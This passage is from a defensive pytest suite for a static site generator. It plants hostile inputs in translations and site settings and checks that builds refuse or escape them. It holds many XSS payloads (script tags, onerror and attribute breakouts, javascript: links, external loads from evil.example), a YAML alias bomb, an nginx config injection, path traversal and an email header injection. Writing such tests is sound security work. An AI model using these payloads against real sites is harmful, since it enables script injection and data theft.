"""Every input is untrusted (issue 11): the real `portal` command against hostile files.

Each case copies the small fixture project, plants ONE hostile input (a page, the settings, a
.po file, a template, a link, a pipe, a command-line argument) and runs `python -m portal` in a
subprocess under a timeout, so a hang fails the case instead of the suite. It then holds the
portal to what the issue promises:

- a refusal exits 1 or 2 with `path:line: what (what to do)` naming the file relative to the
  project (and the line, where there is one), never with a traceback;
- a failed build leaves the previous build in the output folder byte-for-byte as it was, and
  leaves nothing of its own behind;
- nothing outside the project is read or published (a secret file beside the project and the
  first line of /etc/passwd never appear in a build), and nothing outside it is changed;
- whatever a build does publish loads nothing from another origin (src, srcset, poster, data,
  <link href>, style and <style> url(), SVG href, <base>, meta refresh, _redirects) and runs no
  script that is not one of the portal's files.

The judges (the build scanner and the nginx parser) have tests of their own at the end, so
that each case is able to fail. Hypothesis fuzzes the settings loader in-process.
"""

from __future__ import annotations

import contextlib
import gzip
import hashlib
import itertools
import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time
import warnings
from collections.abc import Callable, Collection, Iterable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup, XMLParsedAsHTMLWarning
from conftest import ROOT, make_project
from hypothesis import HealthCheck, given
from hypothesis import settings as fuzz_settings
from hypothesis import strategies as st

from portal.load.settings import load_settings

pytestmark = pytest.mark.slow

SITE = "content/site.yml"
PAGE = "content/sv/extern.md"
HEAD = "---\ntitle: Sida\ndescription: En kort beskrivning.\n---\n\n"
FIRST_BODY_LINE = HEAD.count("\n") + 1  # 6
SITE_HOST = "test.ekbacka.example"
NGINX = Path("/usr/sbin/nginx")
PORTAL_TEMPLATES = ROOT / "portal" / "templates"


def _passwd_line() -> bytes | None:
    try:
        first = Path("/etc/passwd").read_bytes().split(b"\n", 1)[0]
    except OSError:
        return None
    return first if len(first) > 8 else None


PASSWD = _passwd_line()

Where = tuple[str, Collection[int] | None]  # a file relative to the project, and its lines


# --- Running the real command ------------------------------------------------------------------

@dataclass
class Result:
    args: tuple[str, ...]
    code: int
    output: str  # stdout and stderr
    seconds: float

    def __str__(self) -> str:
        text = self.output
        if len(text) > 4000:
            text = text[:1500] + "\n[...]\n" + text[-2300:]
        shown = " ".join(repr(a) if re.search(r"[\s'\"$;]", a) or not a else a for a in self.args)
        return f"$ portal {shown}\n(exit {self.code} after {self.seconds:.1f} s)\n{text}"


def _kill_group(pid: int) -> None:
    """Kill what is left of the process group this suite started (workers a build forked)."""
    with contextlib.suppress(ProcessLookupError, PermissionError):
        os.killpg(pid, signal.SIGKILL)


def start(root: Path, *args: str, cwd: Path) -> subprocess.Popen[bytes]:
    command = [sys.executable, "-m", "portal", "--project", str(root), *args]
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "NO_COLOR": "1", "COLUMNS": "200"}
    # A session of its own: on a timeout the whole group (the command and any worker it forked)
    # is killed, so a hung build cannot keep the pipes open and hang the suite too.
    return subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, cwd=cwd, env=env, start_new_session=True)


def finish(process: subprocess.Popen[bytes], args: tuple[str, ...], started: float,
           timeout: float) -> Result:
    try:
        out, err = process.communicate(timeout=max(0.1, timeout - (time.monotonic() - started)))
    except subprocess.TimeoutExpired:
        _kill_group(process.pid)
        out, err = process.communicate()
        text = (out + err).decode("utf-8", "replace")[-2000:]
        pytest.fail(f"no hang: `portal {' '.join(args)}` was still running after {timeout} s "
                    f"(killed); output so far:\n{text}")
    _kill_group(process.pid)  # nothing of it may outlive it
    return Result(args, process.returncode, (out + err).decode("utf-8", "replace"),
                  time.monotonic() - started)


def portal(root: Path, *args: str, timeout: float = 60, cwd: Path | None = None) -> Result:
    """`python -m portal --project ROOT ARGS...`, as a user runs it; a hang fails the test."""
    started = time.monotonic()
    process = start(root, *args, cwd=cwd or root.parent)
    return finish(process, args, started, timeout)


# --- Judging the output ------------------------------------------------------------------------

def names(output: str, path: str, lines: Collection[int] | None = None) -> bool:
    """Whether the output names `path` (relative, not inside a longer path) at one of `lines`."""
    where = r"(?<![\w./-])" + re.escape(path)
    if lines is not None:
        where += ":(?:" + "|".join(str(n) for n in sorted(set(lines))) + r")(?!\d)"
    else:
        where += r"(?![\w-]|\.\w)"
    return re.search(where, output) is not None


def described(where: Iterable[Where]) -> str:
    parts = []
    for path, lines in where:
        if lines is None:
            parts.append(path)
        else:
            ordered = sorted(set(lines))
            shown = (f"{ordered[0]}-{ordered[-1]}" if len(ordered) > 3 and
                     ordered == list(range(ordered[0], ordered[-1] + 1)) else
                     ",".join(map(str, ordered)))
            parts.append(f"{path}:{shown}")
    return " or ".join(parts)


def no_traceback(result: Result) -> None:
    assert "Traceback (most recent call last)" not in result.output and \
        "Traceback" not in result.output, f"a traceback instead of a message:\n{result}"


def fails_cleanly(result: Result, *where: Where, says: str | None = None,
                  mention: str | None = None) -> None:
    """Exit 1 or 2, no traceback, a message naming one of the `where` files (and lines)."""
    no_traceback(result)
    assert result.code in (1, 2), f"exit code {result.code}, expected 1 or 2:\n{result}"
    if where:
        assert any(names(result.output, path, lines) for path, lines in where), \
            f"the message does not name {described(where)}:\n{result}"
    if mention is not None:
        assert mention in result.output, f"the message does not mention {mention!r}:\n{result}"
    if says is not None:
        assert re.search(says, result.output, re.IGNORECASE), \
            f"the message does not say what to do (expected /{says}/):\n{result}"


def reports(result: Result, *where: Where) -> None:
    """Whatever the exit code: no traceback, and the file is named (as an error or a warning)."""
    no_traceback(result)
    assert result.code in (0, 1, 2), f"exit code {result.code}:\n{result}"
    assert any(names(result.output, path, lines) for path, lines in where), \
        f"{described(where)} is not reported (a file must never be skipped silently):\n{result}"


# --- Folders before and after ------------------------------------------------------------------

def snapshot(folder: Path) -> dict[str, tuple[object, ...]]:
    """Every entry below `folder`: file bytes (hashed), link targets, folders, special files."""
    state: dict[str, tuple[object, ...]] = {}
    if not folder.exists() and not folder.is_symlink():
        return state
    for top, dirs, files in os.walk(folder):
        for name in [*dirs, *files]:
            path = Path(top) / name
            rel = path.relative_to(folder).as_posix()
            mode = os.lstat(path).st_mode
            if stat.S_ISLNK(mode):
                state[rel] = ("link", os.readlink(path))
            elif stat.S_ISDIR(mode):
                state[rel] = ("folder",)
            elif stat.S_ISREG(mode):
                state[rel] = ("file", hashlib.sha256(path.read_bytes()).hexdigest())
            else:
                state[rel] = ("special", stat.S_IFMT(mode))
    return state


def difference(before: dict[str, tuple[object, ...]], after: dict[str, tuple[object, ...]]) -> str:
    gone = sorted(set(before) - set(after))
    added = sorted(set(after) - set(before))
    changed = sorted(rel for rel in set(before) & set(after) if before[rel] != after[rel])
    return f"removed {gone[:5]}, added {added[:5]}, changed {changed[:5]}"


# --- The build scanner: loads from other origins, scripts, text from outside --------------------

SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]*:")
C0_AND_SPACE = "".join(chr(c) for c in range(0x21))
FETCHED = {"src", "poster", "data", "background", "lowsrc", "dynsrc", "ping", "manifest",
           "longdesc", "codebase", "archive", "icon"}
SRCSET = {"srcset", "imagesrcset"}
HREF_LOADS = {"image", "use", "feimage", "script", "base"}  # SVG and <base>: href is fetched
NAVIGATION_RELS = {"canonical", "alternate"}
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}


def is_foreign(url: str) -> bool:
    """Whether a browser would fetch `url` from somewhere else than the host serving the page:
    any scheme, or a network path (`//host`, `\\\\host`, `/\\host`), after the clean-up a
    browser does (leading and trailing controls and spaces, tabs and newlines inside)."""
    url = re.sub(r"[\t\n\r]", "", url).strip(C0_AND_SPACE)
    return bool(SCHEME.match(url)) or url[:2].replace("\\", "/") == "//"


def css_decode(css: str) -> str:
    css = re.sub(r"/\*.*?\*/", "", css, flags=re.DOTALL)

    def char(match: re.Match[str]) -> str:
        if match.group(1):
            code = int(match.group(1), 16)
            return chr(code) if 0 < code <= 0x10FFFF else "\ufffd"
        return match.group(2)
    return re.sub(r"\\([0-9a-fA-F]{1,6})[ \t\n\r\f]?|\\(.)", char, css, flags=re.DOTALL)


def css_urls(css: str) -> list[str]:
    css = css_decode(css)
    found = [m.group(2) for m in re.finditer(r"url\(\s*(['\"]?)(.*?)\1\s*\)", css, re.I | re.S)]
    found += [m.group(2) for m in re.finditer(r"@import\s+(['\"])(.*?)\1", css, re.I | re.S)]
    for m in re.finditer(r"image-set\(([^)]*)\)", css, re.I | re.S):
        found += [s[1] for s in re.findall(r"(['\"])(.*?)\1", m.group(1))]
    return found


def html_findings(rel: str, text: str) -> list[str]:
    """What in one HTML or SVG file would load from another origin or run a foreign script."""
    found: list[str] = []
    with warnings.catch_warnings():  # an SVG file is XML: html.parser reads it well enough here
        warnings.simplefilter("ignore", XMLParsedAsHTMLWarning)
        soup = BeautifulSoup(text, "html.parser")
    for tag in soup.find_all(True):
        name = tag.name.lower()
        attrs = {key.lower(): (" ".join(value) if isinstance(value, list) else (value or ""))
                 for key, value in tag.attrs.items()}

        def flag(what: str, name: str = name) -> None:
            found.append(f"{rel}: <{name}> {what}")
        if name == "script" and "src" not in attrs and \
                attrs.get("type", "").lower() not in DATA_SCRIPT_TYPES:
            flag("is an inline script")
        if name == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            target = re.search(r"url\s*=\s*['\"]?([^'\";]+)", attrs.get("content", ""), re.I)
            if target and is_foreign(target.group(1)):
                flag(f"refreshes to {target.group(1)!r}")
        if name == "style":
            flag_css = [u for u in css_urls(tag.get_text()) if is_foreign(u)]
            for url in flag_css:
                flag(f"loads {url!r} (style sheet)")
        for key, value in attrs.items():
            if key.startswith("on"):
                flag(f"has an event handler {key}={value[:40]!r}")
            if key in FETCHED and is_foreign(value):
                flag(f"{key}={value!r} loads from another origin")
            if key in SRCSET:
                for candidate in value.split(","):
                    url = candidate.strip().split()[0] if candidate.strip() else ""
                    if url and is_foreign(url):
                        flag(f"{key} candidate {url!r} loads from another origin")
            if key == "style":
                for url in css_urls(value):
                    if is_foreign(url):
                        flag(f"style={value[:60]!r} loads {url!r}")
            if key in ("href", "xlink:href"):
                if name in HREF_LOADS and is_foreign(value):
                    flag(f"{key}={value!r} loads from another origin")
                if name == "link" and is_foreign(value):
                    rels = set(attrs.get("rel", "").lower().split())
                    if rels - NAVIGATION_RELS or urlsplit(value.strip()).hostname != SITE_HOST:
                        flag(f"rel={attrs.get('rel')!r} href={value!r} loads from another origin")
            if key in ("href", "src", "action", "formaction", "xlink:href", "data") and \
                    re.sub(r"[\x00-\x20]", "", value).lower().startswith(("javascript:", "vbscript:")):
                flag(f"{key}={value[:40]!r} is a script address")
    return found


def scan_build(out: Path, secrets: Iterable[bytes] = ()) -> list[str]:
    """Everything in a build that breaks "nothing from other origins, no foreign script,
    nothing from outside the project"."""
    secrets = [s for s in secrets if s] + ([PASSWD] if PASSWD else [])
    found: list[str] = []
    entries = []
    for top, dirs, files in os.walk(out):
        entries += [Path(top) / name for name in [*dirs, *files]]
    for path in sorted(entries):
        rel = path.relative_to(out).as_posix()
        if path.is_symlink():
            found.append(f"{rel}: is a link to {os.readlink(path)!r}")
            continue
        if not path.is_file():
            continue
        data = path.read_bytes()
        if rel.endswith(".gz"):
            try:
                data = gzip.decompress(data)
            except (OSError, EOFError):
                found.append(f"{rel}: is not a gzip file")
            rel = rel[:-3]
        found += [f"{rel}: contains {s[:30]!r}, read from outside the project" for s in secrets
                  if s in data]
        suffix = Path(rel).suffix.lower()
        text = data.decode("utf-8", "replace")
        if suffix in (".html", ".htm", ".svg", ".xhtml"):
            found += html_findings(rel, text)
        elif suffix == ".css":
            found += [f"{rel}: loads {u!r}" for u in css_urls(text) if is_foreign(u)]
        elif rel == "_redirects":
            for line in text.splitlines():
                parts = line.split()
                if len(parts) >= 2 and not line.lstrip().startswith("#") and is_foreign(parts[1]):
                    found.append(f"_redirects: sends {parts[0]!r} to {parts[1]!r}")
    return found


# --- A project to break ------------------------------------------------------------------------

@dataclass
class Env:
    """A copy of the small project, a previous good build beside it, and a secret outside."""

    tmp: Path
    root: Path
    out: Path
    outside: Path
    secret: bytes

    def run(self, *args: str, timeout: float = 60) -> Result:
        return portal(self.root, *args, timeout=timeout, cwd=self.tmp)

    def path(self, rel: str) -> Path:
        return self.root / rel

    def write(self, rel: str, data: str | bytes) -> Path:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_symlink() or path.is_file():
            path.unlink()
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data, encoding="utf-8")
        return path

    def page(self, body: str, rel: str = PAGE) -> range:
        """Write a page whose body is `body`; return the lines of the body."""
        self.write(rel, HEAD + body + "\n")
        return range(FIRST_BODY_LINE, FIRST_BODY_LINE + body.count("\n") + 1)

    def link(self, rel: str, target: str | Path) -> Path:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_symlink() or path.is_file():
            path.unlink()
        elif path.is_dir():
            shutil.rmtree(path)
        path.symlink_to(target)
        return path

    def fifo(self, rel: str) -> Path:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() or path.is_symlink():
            path.unlink()
        os.mkfifo(path)
        return path

    def template(self, rel: str) -> Path:
        """Copy a portal template into the project's templates/, to be changed."""
        target = self.root / "templates" / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(PORTAL_TEMPLATES / rel, target)
        return target


@pytest.fixture(scope="session")
def good_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A build of the unbroken small project, made by the real command, copied into each case."""
    base = tmp_path_factory.mktemp("good")
    project = make_project(base)
    out = base / "site"
    result = portal(project.root, "build", "--out", str(out), timeout=120)
    assert result.code == 0, result
    return out


@pytest.fixture
def env(tmp_path: Path, good_build: Path) -> Env:
    project = make_project(tmp_path)
    out = tmp_path / "site"
    shutil.copytree(good_build, out, symlinks=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = f"OUTSIDE-SECRET-{os.getpid()}-{tmp_path.name}".encode()
    (outside / "secret.txt").write_bytes(secret + b"\n")
    (outside / "secret.md").write_bytes(b"---\ntitle: Hemlig\ndescription: Hemlig sida.\n---\n\n"
                                        + secret + b"\n")
    return Env(tmp_path, project.root, out, outside, secret)


def judge_check(env: Env, *where: Where, may_pass: bool = False, says: str | None = None,
                args: tuple[str, ...] = ()) -> Result:
    result = env.run("check", *args)
    no_traceback(result)
    if result.code == 0:
        assert may_pass, f"`portal check` found no error; it must refuse this input:\n{result}"
    else:
        fails_cleanly(result, *where, says=says)
    return result


def judge_build(env: Env, *where: Where, may_succeed: bool = False, says: str | None = None,
                out: Path | None = None) -> Result:
    """Build over the previous good build: refused cleanly with it intact, or a clean site."""
    out = out or env.out
    before, outside = snapshot(out), snapshot(env.outside)
    result = env.run("build", "--out", str(out))
    no_traceback(result)
    assert snapshot(env.outside) == outside, "the build changed files outside the project"
    if result.code == 0:
        assert may_succeed, f"the build succeeded; it must refuse this input:\n{result}"
        problems = scan_build(out, [env.secret])
        assert not problems, "the build publishes:\n" + "\n".join(problems[:15]) + f"\n{result}"
    else:
        fails_cleanly(result, *where, says=says)
        after = snapshot(out)
        assert after == before, ("the failed build changed the previous build: "
                                 + difference(before, after))
        leftovers = [p.name for p in out.parent.iterdir()  # (a lock file may stay)
                     if re.match(rf"\.{re.escape(out.name)}\.(new|old|kept)-", p.name)]
        assert not leftovers, f"the failed build left {leftovers} beside {out}"
    return result


def consistent(check: Result, build: Result) -> None:
    """What `build` refuses, `check` reports first; what `check` calls an error stops a build."""
    assert (check.code != 0) == (build.code != 0), (
        f"check and build disagree: check exit {check.code}, build exit {build.code}\n"
        f"{check}\n{build}")


# ================================================================================================
# 1. Interface strings (.po): translators must not be able to publish markup
# ================================================================================================

def po_quote(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def set_msgstr(path: Path, msgid: str, msgstr: str, fuzzy: bool = False) -> set[int]:
    """Give `msgid` a new translation; return the lines of its entry."""
    text = path.read_text(encoding="utf-8")
    pattern = re.compile(r"^msgid " + re.escape(po_quote(msgid)) + r"\nmsgstr \".*\"$", re.M)
    matches = list(pattern.finditer(text))
    assert len(matches) == 1, f"{msgid!r} is not one single-line entry in {path}"
    match = matches[0]
    line = text[: match.start()].count("\n") + 1
    entry = f"msgid {po_quote(msgid)}\nmsgstr {po_quote(msgstr)}"
    if fuzzy:
        entry = "#, fuzzy\n" + entry
    path.write_text(text[: match.start()] + entry + text[match.end():], encoding="utf-8")
    return {line, line + 1, line + 2} if fuzzy else {line, line + 1}


SKIP = "Skip to main content"
EMERGENCY = "In an emergency, when someone's life is in danger, call %(number)s."
# (id, language, msgid, msgstr, the text a visitor must see if the build goes ahead, fuzzy)
PO_CASES = [
    ("script_tag", "sv", SKIP, "<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("script_mixed_case", "sv", SKIP, "<ScRiPt >alert(1)</ScRiPt >", "<ScRiPt >alert(1)</ScRiPt >"),
    ("script_src_external", "sv", SKIP, '<script src="https://evil.example/x.js"></script>Hoppa',
     '<script src="https://evil.example/x.js"></script>Hoppa'),
    ("script_split_tag", "sv", SKIP, "<scr<script>ipt>alert(1)</script>",
     "<scr<script>ipt>alert(1)</script>"),
    ("img_external", "sv", SKIP, "<img src=https://evil.example/x.png>Hoppa",
     "<img src=https://evil.example/x.png>Hoppa"),
    ("img_onerror", "sv", SKIP, "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ("javascript_link", "sv", SKIP, '<a href="javascript:alert(1)">Hoppa</a>',
     '<a href="javascript:alert(1)">Hoppa</a>'),
    ("attr_breakout_double_quote", "sv", "Menu", 'Meny" onmouseover="alert(1)',
     'Meny" onmouseover="alert(1)'),
    ("attr_breakout_single_quote", "sv", "Menu", "Meny' onmouseover='alert(1)",
     "Meny' onmouseover='alert(1)"),
    ("attr_breakout_closes_tag", "sv", "Menu", 'Meny"></nav><script>alert(1)</script><nav x="',
     'Meny"></nav><script>alert(1)</script><nav x="'),
    ("attr_breakout_data_attribute", "sv", "Link copied", 'Kopierad" autofocus onfocus="alert(1)',
     'Kopierad" autofocus onfocus="alert(1)'),
    ("attr_breakout_search_results", "sv", "Results: %(count)s",
     'Resultat: %(count)s" onmouseover="alert(1)', 'Resultat: {count}" onmouseover="alert(1)'),
    ("style_url", "sv", SKIP, '<span style="background:url(https://evil.example/a.png)">Hoppa</span>',
     '<span style="background:url(https://evil.example/a.png)">Hoppa</span>'),
    ("link_stylesheet", "sv", SKIP, "<link rel=stylesheet href=https://evil.example/a.css>Hoppa",
     "<link rel=stylesheet href=https://evil.example/a.css>Hoppa"),
    ("iframe", "sv", SKIP, "<iframe src=https://evil.example/></iframe>Hoppa",
     "<iframe src=https://evil.example/></iframe>Hoppa"),
    ("svg_onload", "sv", SKIP, "<svg onload=alert(1)>Hoppa", "<svg onload=alert(1)>Hoppa"),
    ("meta_refresh", "sv", SKIP, '<meta http-equiv=refresh content="0;url=https://evil.example/">',
     '<meta http-equiv=refresh content="0;url=https://evil.example/">'),
    ("base_href", "sv", SKIP, '<base href="https://evil.example/">Hoppa',
     '<base href="https://evil.example/">Hoppa'),
    ("comment_breakout", "sv", SKIP, "--><script>alert(1)</script><!--",
     "--><script>alert(1)</script><!--"),
    ("noscript_mutation", "sv", SKIP, '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("jinja_expression", "sv", SKIP, "{{ config }}{{ 7*7 }}", "{{ config }}{{ 7*7 }}"),
    ("format_string_with_markup", "sv", EMERGENCY,
     "Ring <img src=https://evil.example/x.png> %(number)s.",
     "Ring <img src=https://evil.example/x.png> 112."),
    ("arabic_script_tag", "ar", SKIP, "<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("arabic_attr_breakout", "ar", "Menu", 'قائمة" onmouseover="alert(1)',
     'قائمة" onmouseover="alert(1)'),
    ("fuzzy_entry_with_script", "sv", SKIP, "<script>alert(1)</script>", None),
]


def texts_of(out: Path, lang: str) -> list[str]:
    """Every text and attribute value a visitor's browser shows or reads in one language."""
    found = []
    for path in sorted((out / lang).rglob("*.html")):
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        found.append(soup.get_text())
        for tag in soup.find_all(True):
            found += [" ".join(v) if isinstance(v, list) else str(v) for v in tag.attrs.values()]
    return found


@pytest.mark.parametrize(("lang", "msgid", "msgstr", "visible"),
                         [pytest.param(*case[1:5], id=case[0]) for case in PO_CASES])
def test_interface_strings_never_publish_markup(env: Env, lang: str, msgid: str, msgstr: str,
                                                visible: str | None) -> None:
    po = f"translations/{lang}/LC_MESSAGES/messages.po"
    lines = set_msgstr(env.path(po), msgid, msgstr, fuzzy=visible is None)
    check = judge_check(env, (po, lines), may_pass=True)
    build = judge_build(env, (po, lines), may_succeed=True)
    consistent(check, build)
    if build.code == 0:
        headers = (env.out / "_headers").read_text(encoding="utf-8")
        csp = [line for line in headers.splitlines() if "Content-Security-Policy" in line]
        assert csp and not any("sha256-" in line or "unsafe-inline" in line for line in csp), \
            f"the CSP allows inline scripts: {csp}"
        if visible is not None:
            assert any(visible in text for text in texts_of(env.out, lang)), \
                f"the translation {msgstr!r} is not shown as the text {visible!r} on the {lang} pages"


# ================================================================================================
# 2. Settings: a strict schema, nothing unquoted in nginx, robots.txt or pages
# ================================================================================================

Plant = Callable[[Env], list[Where]]


def yml_line(start: str, new: str, says_line: int | None = None) -> Plant:
    """Replace the one line of site.yml that starts (after indentation) with `start`."""
    def plant(env: Env) -> list[Where]:
        path = env.path(SITE)
        lines = path.read_text(encoding="utf-8").split("\n")
        found = [i for i, line in enumerate(lines) if line.lstrip().startswith(start)]
        assert len(found) == 1, f"{start!r} is not one line of the fixture's site.yml"
        lines[found[0]] = new
        path.write_text("\n".join(lines), encoding="utf-8")
        first = found[0] + 1
        return [(SITE, range(first, first + new.count("\n") + 1))]
    return plant


def yml_insert(before: str | None, new: str) -> Plant:
    """Insert `new` before the line starting with `before` (None: at the end)."""
    def plant(env: Env) -> list[Where]:
        path = env.path(SITE)
        lines = path.read_text(encoding="utf-8").rstrip("\n").split("\n")
        if before is None:
            at = len(lines)
        else:
            found = [i for i, line in enumerate(lines) if line.lstrip().startswith(before)]
            assert len(found) == 1
            at = found[0]
        lines[at:at] = new.split("\n")
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        return [(SITE, range(at + 1, at + 1 + new.count("\n") + 1))]
    return plant


def yml_whole(data: bytes, lines: Collection[int] | None = None) -> Plant:
    def plant(env: Env) -> list[Where]:
        env.write(SITE, data)
        return [(SITE, lines)]
    return plant


def yml_special(make: Callable[[Env, Path], None]) -> Plant:
    def plant(env: Env) -> list[Where]:
        path = env.path(SITE)
        make(env, path)
        return [(SITE, None)]
    return plant


def _fifo_settings(env: Env, path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def _settings_outside(env: Env, path: Path) -> None:
    (env.outside / "site.yml").write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(env.outside / "site.yml")


def _settings_dangling(env: Env, path: Path) -> None:
    path.unlink()
    path.symlink_to(path.parent / "finns-inte.yml")


def _settings_folder(env: Env, path: Path) -> None:
    path.unlink()
    path.mkdir()


def _settings_huge(env: Env, path: Path) -> None:
    path.write_bytes(path.read_bytes() + b"# " + b"x" * 3_000_000 + b"\n")


def lol_bomb(levels: int = 9, prefix: str = "lol") -> list[str]:
    """The "billion laughs": 9 levels of 9 aliases each, 9^9 strings when expanded."""
    lines = [f'{prefix}0: &{prefix}0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"{prefix}{i}: &{prefix}{i} [" + ", ".join([f"*{prefix}{i - 1}"] * 9) + "]")
    return lines


MUNI = "municipality: {{sv: {sv}, en: Ekbacka Municipality, ar: بلدية إيكباكا}}"
LANG_SV = "- {code: sv, name: Svenska, dir: ltr}"
BOMB = "\n".join(lol_bomb())

# (id, plant, the build may go ahead (the value is harmless text), what the message must say)
SETTINGS_CASES: list[tuple[str, Plant, bool, str | None]] = [
    ("base_url_newline", yml_line("base_url:", 'base_url: "https://test.ekbacka.example/\\n}\\n'
                                  'server { listen 81; root /; }"'), False, None),
    ("base_url_semicolon", yml_line("base_url:", 'base_url: "https://test.ekbacka.example;/"'),
     False, None),
    ("base_url_brace", yml_line("base_url:", 'base_url: "https://test.ekbacka.example/{"'), False, None),
    ("base_url_space", yml_line("base_url:", 'base_url: "https://test.ekbacka.example /"'), False, None),
    ("base_url_fragment", yml_line("base_url:", "base_url: https://test.ekbacka.example/#top"),
     False, None),
    ("base_url_userinfo", yml_line("base_url:", "base_url: https://user:pw@test.ekbacka.example/"),
     False, None),
    ("base_url_http", yml_line("base_url:", "base_url: http://test.ekbacka.example/"), False, None),
    ("base_url_path", yml_line("base_url:", "base_url: https://test.ekbacka.example/sv/"), False, None),
    ("base_url_query", yml_line("base_url:", "base_url: https://test.ekbacka.example/?a=1"), False, None),
    ("base_url_control_char", yml_line("base_url:", 'base_url: "https://test.ekbacka.example/\\a"'),
     False, None),
    ("base_url_nul", yml_line("base_url:", 'base_url: "https://test.ekbacka.example/\\0"'), False, None),
    ("base_url_bidi_u202e", yml_line("base_url:", 'base_url: "https://test.ekbacka\\u202e.example/"'),
     False, None),
    ("base_url_unicode_host", yml_line("base_url:", "base_url: https://ekbäcka.example/"), False, None),
    ("base_url_backslash", yml_line("base_url:", 'base_url: "https://test.ekbacka.example\\\\@evil.example/"'),
     False, None),
    ("base_url_dollar_variable", yml_line("base_url:", 'base_url: "https://$host.example/"'), False, None),
    ("base_url_javascript", yml_line("base_url:", 'base_url: "javascript:alert(1)//"'), False, None),
    ("base_url_port_out_of_range", yml_line("base_url:", "base_url: https://test.ekbacka.example:99999/"),
     False, None),
    ("base_url_no_host", yml_line("base_url:", "base_url: https:///"), False, None),
    ("base_url_300_chars", yml_line("base_url:", "base_url: https://" + "a" * 300 + ".example/"),
     False, None),
    ("base_url_list", yml_line("base_url:", "base_url: [https://test.ekbacka.example/]"), False, None),
    ("base_url_mapping", yml_line("base_url:", "base_url: {url: https://test.ekbacka.example/}"),
     False, None),
    ("base_url_empty", yml_line("base_url:", 'base_url: ""'), False, None),
    ("default_language_unknown", yml_line("default_language:", "default_language: xx"), False, None),
    ("default_language_list", yml_line("default_language:", "default_language: [sv]"), False, None),
    ("language_code_traversal", yml_line(LANG_SV, '  - {code: "../../etc", name: Svenska, dir: ltr}'),
     False, None),
    ("language_code_newline", yml_line(LANG_SV, '  - {code: "sv\\nen", name: Svenska, dir: ltr}'),
     False, None),
    ("language_code_uppercase", yml_line(LANG_SV, "  - {code: SV, name: Svenska, dir: ltr}"), False, None),
    ("language_dir_attribute_breakout",
     yml_line(LANG_SV, "  - {code: sv, name: Svenska, dir: 'ltr\" onload=\"alert(1)'}"), False, None),
    ("language_name_300_chars", yml_line(LANG_SV, "  - {code: sv, name: " + "S" * 300 + ", dir: ltr}"),
     False, None),
    ("language_name_markup", yml_line(LANG_SV, "  - {code: sv, name: '<script>alert(1)</script>', dir: ltr}"),
     True, None),
    ("languages_mapping", yml_line("languages:", "languages: {sv: Svenska}\nx_languages:"), False, None),
    ("languages_empty", yml_line("languages:", "languages: []\nx_languages:"), False, None),
    ("municipality_300_chars", yml_line("municipality:", MUNI.format(sv="E" * 300)), False, None),
    ("municipality_list", yml_line("municipality:", MUNI.format(sv="[Ekbacka, kommun]")), False, None),
    ("municipality_newline", yml_line("municipality:", MUNI.format(sv='"Ekbacka\\nkommun"')), False, None),
    ("municipality_bidi_u202e", yml_line("municipality:", MUNI.format(sv='"Ekbacka \\u202ekommun"')),
     False, r"U\+202E"),
    ("municipality_markup", yml_line("municipality:", MUNI.format(
        sv="'<img src=https://evil.example/x.png onerror=alert(1)>'")), True, None),
    ("programme_mapping", yml_line("programme:", "programme: {sv: {a: b}, en: Exit, ar: خروج}"),
     False, None),
    ("alias_bomb", yml_insert("base_url:", BOMB + "\nprogramme_x: *lol8"), False, "alias"),
    ("tab_indentation", yml_line("phone:", "\tphone: 070-174 06 07"), False, r"space"),
    ("unclosed_single_quote", yml_line("base_url:", "base_url: 'https://test.ekbacka.example/"),
     False, r"quote"),
    ("unclosed_double_quote_last_line", yml_line("quick_exit:", 'quick_exit: "https://www.smhi.se/'),
     False, r"quote"),
    ("unknown_key", yml_insert(None, "analytics: https://www.google-analytics.com/"), False, None),
    ("unknown_contact_key", yml_insert("sms:", "  twitter: https://x.example/"), False, None),
    ("misspelt_key", yml_line("quick_exit:", "quick_exi: https://www.smhi.se/"), False, None),
    ("quick_exit_javascript", yml_line("quick_exit:", 'quick_exit: "javascript:alert(1)"'), False, None),
    ("quick_exit_data_url", yml_line("quick_exit:", 'quick_exit: "data:text/html,<script>alert(1)</script>"'),
     False, None),
    ("quick_exit_http", yml_line("quick_exit:", "quick_exit: http://www.smhi.se/"), False, None),
    ("quick_exit_protocol_relative", yml_line("quick_exit:", "quick_exit: //evil.example/"), False, None),
    ("quick_exit_newline", yml_line("quick_exit:", 'quick_exit: "https://www.smhi.se/\\nX: y"'),
     False, None),
    ("email_quote", yml_line("email:", "  email: 'te\"st@ekbacka.example'"), False, None),
    ("email_newline", yml_line("email:", '  email: "test@ekbacka.example\\nBcc: x@evil.example"'),
     False, None),
    ("email_query", yml_line("email:", '  email: "test@ekbacka.example?cc=x@evil.example"'), False, None),
    ("email_markup", yml_line("email:", '  email: "<img src=x onerror=alert(1)>@ekbacka.example"'),
     False, None),
    ("phone_attribute_breakout", yml_line("phone:", "  phone: '070\" onclick=\"alert(1)'"), False, None),
